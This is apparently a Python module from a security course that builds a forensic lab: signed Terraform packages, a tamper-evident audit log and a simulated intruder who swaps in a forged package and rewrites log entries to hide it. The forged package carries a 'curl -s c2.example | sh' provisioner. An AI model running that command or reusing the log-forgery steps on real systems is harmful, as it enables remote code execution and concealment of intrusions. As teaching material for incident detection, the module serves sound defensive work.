"""The evidence room of Lab 3: a package was replaced, and the audit log was edited so that it looks approved.

Which package, whose key and which entries differ from learner to learner (`Lab.secret`). The intruder has the log's
own key and one signer's key, but none of the keys that sign events. What was done is written down nowhere: it must be
found with the verifiers.
"""

from __future__ import annotations

import base64
import hashlib
import json
import random
import shutil
import tempfile
from collections.abc import Mapping, Sequence
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import TYPE_CHECKING, Any

from helpers.clients.registry import pack
from helpers.compliance.audit import (
    ORIGIN,
    AuditLogDirectory,
    Entry,
    Event,
    Retention,
    Subject,
    Verification,
    verify_export,
)
from helpers.compliance.audit.consistency import sign_note
from helpers.compliance.audit.statement import check_event
from helpers.compliance.evidence import ATTESTATIONS
from helpers.core.files import new_directory
from helpers.course.scenarios.audit import _root, _tiles
from helpers.wrappers.cosign import Cause, Cosign, Refused, Verified

if TYPE_CHECKING:
    from helpers.course.workspace import Workspace

FOLDER, FINDINGS = "incident/room", "incident/findings.yaml"
PACKAGES = ("batch-queue", "gpu-workspace", "inference-endpoint", "model-bucket")
SIGNERS = ("ada", "bela", "cleo")
DAYS = ("friday", "monday", "tuesday", "wednesday", "thursday")
VERSION = "1.1.0"
SBOM = ATTESTATIONS["sbom"]
#: Suffixes of what lies beside a package.
SIGNATURE, ATTESTATION = ".sigstore.json", ".attestation.json"
_INVENTORY = "inventory.json"
_FORGED = 'resource "terraform_data" "agent" {\n  provisioner "local-exec" { command = "curl -s c2.example | sh" }\n}\n'


@dataclass(frozen=True)
class Evidence:
    """What the learner was given.

    Attributes:
        folder: ``trail/`` (the log as it is today), ``checkpoints/`` (what the auditor kept), ``artifacts/`` (the
            registry's directory), ``copies/`` (packages that consumers fetched, named by digest), ``keys/``.
    """

    folder: Path

    @property
    def trail(self) -> Path:
        """The exported audit log."""
        return self.folder / "trail"

    @property
    def artifacts(self) -> tuple[Path, ...]:
        """The packages in the registry's directory."""
        return tuple(sorted((self.folder / "artifacts").glob("*.tar.gz")))

    @property
    def copies(self) -> tuple[Path, ...]:
        """Packages that consumers fetched earlier, ``sha256-DIGEST.tar.gz``, newer and older versions alike."""
        return tuple(sorted((self.folder / "copies").glob("*.tar.gz")))

    @property
    def checkpoints(self) -> Mapping[str, Path]:
        """The auditor's checkpoints by day, oldest first."""
        return {day: self.folder / "checkpoints" / day for day in DAYS}

    @property
    def signers(self) -> Mapping[str, Path]:
        """Public keys of those who may sign packages."""
        return read_keys(self.folder / "keys")

    def entries(self) -> tuple[Entry, ...]:
        """Return the lines of the log as an editor shows them; nothing is verified, the index is that of the line."""
        lines = (self.trail / "entries.jsonl").read_bytes().splitlines()
        return tuple(Entry.of(index, line) for index, line in enumerate(lines))

    def verify(self, day: str | None = None) -> Verification:
        """Verify the log with the auditor's keys, and with a day's checkpoint: is that the beginning of today's?"""
        keys, kept = self.folder / "keys", self.checkpoints[day] if day else None
        return verify_export(self.trail, key=keys / "log.note", collectors=keys / "collectors.note", witnessed=kept)

    def untouched(self) -> bool:
        """Return whether the evidence is as it was handed over."""
        said: Mapping[str, str] = json.loads((self.folder / _INVENTORY).read_text())
        return said == _inventory(self.folder)


def digest_of(file: Path) -> str:
    """Return the SHA-256 of a file, hex."""
    return hashlib.sha256(file.read_bytes()).hexdigest()


def read_keys(folder: Path) -> dict[str, Path]:
    """Return the public keys of signers in a directory, by name."""
    return {path.stem: path for path in sorted(folder.glob("*.pub"))}


def signer_of(package: Path, keys: Mapping[str, Path]) -> tuple[str, Verified | Refused]:
    """Return which key signed a package **and** the statement of its SBOM, and cosign's answer.

    Args:
        keys: public keys by name. With none that fits, the name is empty and the answer is the last refusal.
    """
    cosign, answer = Cosign(package.parent), None
    for name, key in keys.items():
        answer = cosign.verify_blob(package, key=key)
        if answer:
            listed = cosign.verify_blob_attestation(package, key=key, type=SBOM)
            return (name, answer) if listed else ("", listed)
    if answer is None:
        answer = Refused(package.name, Cause.WRONG_KEY, "There is no key to verify with.")
    return "", answer


def blank_findings() -> dict[str, Any]:
    """Return the form of the findings, without answers."""
    return {
        "artifact": {"name": None, "found": None, "right": None, "evidence": None},
        "key": {"signer": None, "evidence": None},
        "log": [{"kind": None, "index": None}],
        "since": {"checkpoint": None, "evidence": None},
    }


def open_evidence(lab: Workspace) -> Evidence:
    """Return the learner's evidence, created at the first call; existing evidence is never replaced."""
    target = lab.path(FOLDER)
    if not (target / _INVENTORY).is_file():
        # The private keys are gone with their directory; they never lie in the workspace.
        with new_directory(target, mode=0o777) as made, tempfile.TemporaryDirectory() as private:
            _EvidenceBuilder(made, Path(private), random.Random(lab.secret("incident"))).make()  # noqa: S311
            shutil.rmtree(target, ignore_errors=True)
    return Evidence(target)


def _inventory(folder: Path) -> dict[str, str]:
    return {
        path.relative_to(folder).as_posix(): digest_of(path)
        for path in sorted(folder.rglob("*"))
        if path.is_file() and path.name != _INVENTORY
    }


class _EvidenceBuilder:
    """Makes a room: an honest week first, then the intruder's night."""

    def __init__(self, folder: Path, private: Path, dice: random.Random) -> None:
        self.folder, self.private, self.dice = folder, private, dice
        self.order = dice.sample(PACKAGES, len(PACKAGES))
        self.victim = dice.choice(PACKAGES)
        signers = dice.sample(SIGNERS, len(SIGNERS))
        self.owner = {name: signers[i % len(signers)] for i, name in enumerate(self.order)}
        self.thief = dice.choice([one for one in SIGNERS if one != self.owner[self.victim]])
        now = datetime.now(UTC).replace(hour=9, minute=0, second=0, microsecond=0)
        self.friday = now - timedelta(days=(now.weekday() - 4) % 7 + 7)
        self.password = f"room-{dice.getrandbits(64):x}"
        self.cosign = Cosign(private)
        self.room = AuditLogDirectory(private / "log")

    def make(self) -> None:
        """Write the whole room."""
        for name in ("artifacts", "copies", "keys", "checkpoints", "trail"):
            (self.folder / name).mkdir(parents=True)
        self.room.provision()
        self._packages()
        events, kept = self._week()
        lines = self._signed(events)
        for day, size in kept.items():
            (self.folder / "checkpoints" / day).write_text(self._checkpoint(lines[:size]), encoding="utf-8")
        self._export(self._edited(lines))
        shutil.copy(self.room.public_key, self.folder / "keys" / "log.note")
        shutil.copy(self.room.collectors, self.folder / "keys" / "collectors.note")
        (self.folder / _INVENTORY).write_text(json.dumps(_inventory(self.folder), indent=1), encoding="utf-8")

    def _packages(self) -> None:
        """Sign every package with its owner's key; then put the forged one, signed with the stolen key."""
        keys = {name: self.cosign.generate_key_pair(password=self.password, name=name) for name in SIGNERS}
        for name, pair in keys.items():
            shutil.copy(pair.public, self.folder / "keys" / f"{name}.pub")
        build = f"# build {self.dice.getrandbits(32):08x}\n"
        good, old, bad = self.private / "good", self.private / "old", self.private / "bad"
        jobs = []
        for name in PACKAGES:
            listed = self._bom(name, VERSION)
            for place, version in ((old, "1.0.0"), (good, VERSION)):
                jobs.append((_packed(place, name, version, build), self.owner[name], listed))
        jobs.append((_packed(bad, self.victim, VERSION, build + _FORGED), self.thief, self._bom(self.victim, VERSION)))
        with ThreadPoolExecutor(2) as pool:
            list(pool.map(lambda job: self._sign(*job), jobs))
        for name in PACKAGES:
            place = bad if name == self.victim else good
            copy_file(place / _file(name), self.folder / "artifacts" / _file(name))
            for kept in (old, good):
                source = kept / _file(name)
                copy_file(source, self.folder / "copies" / f"sha256-{digest_of(source)}.tar.gz")
        self.right = {name: digest_of(good / _file(name)) for name in PACKAGES}
        self.forged = digest_of(bad / _file(self.victim))

    def _bom(self, name: str, version: str) -> dict[str, Any]:
        provider = {"type": "library", "name": "acme.test/platform/platform", "version": "0.1.0"}
        about = {"component": {"type": "library", "name": name, "version": version}}
        return {"bomFormat": "CycloneDX", "specVersion": "1.6", "metadata": about, "components": [provider]}

    def _sign(self, package: Path, signer: str, listed: Mapping[str, Any]) -> None:
        key = self.private / f"{signer}.key"
        # The list is bound to the bytes that it is about.
        about = {**listed["metadata"]["component"], "hashes": [{"alg": "SHA-256", "content": digest_of(package)}]}
        listed = {**listed, "metadata": {"component": about}}
        self.cosign.sign_blob(package, key=key, password=self.password)
        self.cosign.attest_blob(package, key=key, password=self.password, predicate=listed, type=SBOM)

    def _week(self) -> tuple[list[tuple[str, Event]], dict[str, int]]:
        """Return the week's events with their collectors, and how many there were when the auditor came by."""
        events: list[tuple[str, Event]] = []
        kept: dict[str, int] = {}
        releases = {"monday": self.order[:1], "tuesday": self.order[1:3], "wednesday": self.order[3:]}
        for number, day in enumerate(DAYS):
            base = self.friday + timedelta(days=number + 2 if number else 0)
            happened: list[tuple[str, str, str, str, str, str]] = []
            for name in releases.get(day, ()):
                happened += _release(_file(name), self.right[name], self.owner[name])
            if day == "thursday":
                happened += self._thursday()
            for _ in range(self.dice.randint(2, 4)):
                job = f"drift-{self.dice.getrandbits(20):05x}"
                happened.append(("pipeline", "drift", "pipeline", job, Subject.of(job, job).digest, "in-sync"))
            for minute, (collector, action, actor, subject, digest, decision) in enumerate(happened):
                at = base + timedelta(minutes=11 * minute)
                events.append((collector, Event(action, actor, Subject(subject, digest), decision, "", {}, at)))
            kept[day] = len(events)
        return events, kept

    def _thursday(self) -> list[tuple[str, str, str, str, str, str]]:
        """What the trail said of the forged package before it was edited: a consumer's verifier refused it."""
        file = _file(self.victim)
        return [
            ("pipeline", "verify", "vision", file, self.right[self.victim], "accepted"),
            ("platform", "verify", "speech", file, self.forged, "refused"),
            ("platform", "secret-access", "ranking", "registry-token", Subject.of("token", "token").digest, "accepted"),
        ]

    def _signed(self, events: Sequence[tuple[str, Event]]) -> list[bytes]:
        lines: list[bytes] = []
        previous = hashlib.sha256(b"").hexdigest()
        for index, (collector, event) in enumerate(events):
            made = check_event(event, Retention(), datetime.now(UTC))
            lines.append(made.signed(index, previous, self.room.collector(collector)))
            previous = _leaf(lines[-1]).hex()
        return lines

    def _edited(self, lines: list[bytes]) -> list[bytes]:
        """Return the log as the intruder left it: its own key signs it again, the collectors' signatures stay."""
        found = [Entry.of(index, line) for index, line in enumerate(lines)]
        digest = self.right[self.victim]
        sign = next(e for e in found if e.event.action == "sign" and _digest(e) == digest)
        refused = next(e for e in found if e.event.decision == "refused")
        approval = next(e for e in found if e.event.action == "approval" and _digest(e) == digest)
        edited = list(lines)
        edited[sign.index] = _altered(lines[sign.index], {digest: self.forged})
        copied = _altered(lines[approval.index], {digest: self.forged})
        order = list(range(len(lines)))
        if self.dice.random() < 0.5:
            # A secret was read on Thursday; it is told among Friday's quiet entries.
            moved = next(e.index for e in found if e.event.action == "secret-access")
            order.remove(moved)
            order.insert(order.index(approval.index) + 2, moved)
        order.remove(refused.index)
        done = [edited[index] for index in order]
        done.insert(order.index(approval.index) + 1, copied)
        return done

    def _export(self, lines: list[bytes]) -> None:
        trail = self.folder / "trail"
        (trail / "entries.jsonl").write_bytes(b"".join(line + b"\n" for line in lines))
        shutil.copy(self.room.collectors, trail / "collectors")
        (trail / "tile").mkdir()
        _tiles(trail, [_leaf(line) for line in lines])
        (trail / "checkpoint").write_text(self._checkpoint(lines), encoding="utf-8")

    def _checkpoint(self, lines: Sequence[bytes]) -> str:
        root = base64.b64encode(_root([_leaf(line) for line in lines])).decode()
        return sign_note(f"{ORIGIN}\n{len(lines)}\n{root}\n", self.room.key, self.room.public_key)


def copy_file(source: Path, target: Path) -> None:
    """Copy a package with its signature and its statement."""
    for suffix in ("", SIGNATURE, ATTESTATION):
        shutil.copy(source.with_name(source.name + suffix), target.with_name(target.name + suffix))


def _release(file: str, digest: str, owner: str) -> list[tuple[str, str, str, str, str, str]]:
    other = next(one for one in SIGNERS if one != owner)
    return [
        ("pipeline", "policy-decision", "pipeline", file, digest, "accepted"),
        ("platform", "sign", owner, file, digest, "accepted"),
        ("forge", "approval", other, file, digest, "accepted"),
        ("pipeline", "promotion", "pipeline", file, digest, "accepted"),
    ]


def _file(name: str) -> str:
    return f"{name}-{VERSION}.tar.gz"


def _packed(folder: Path, name: str, version: str, extra: str) -> Path:
    """Write a module's package of that version; its file is named alike in all versions."""
    source = folder / name
    source.mkdir(parents=True)
    (source / "main.tf").write_text(f'output "module" {{\n  value = "{name} {version}"\n}}\n{extra}')
    package = folder / _file(name)
    package.write_bytes(pack(source))
    return package


def _altered(line: bytes, changes: Mapping[str, str]) -> bytes:
    envelope = json.loads(line)
    said = base64.b64decode(envelope["payload"]).decode()
    for old, new in changes.items():
        said = said.replace(old, new)
    envelope["payload"] = base64.b64encode(said.encode()).decode()
    return json.dumps(envelope, separators=(",", ":")).encode()


def _leaf(line: bytes) -> bytes:
    return hashlib.sha256(b"\0" + line).digest()


def _digest(entry: Entry) -> str:
    subject = entry.event.subject
    return subject.digest if isinstance(subject, Subject) else str(subject.get("digest"))
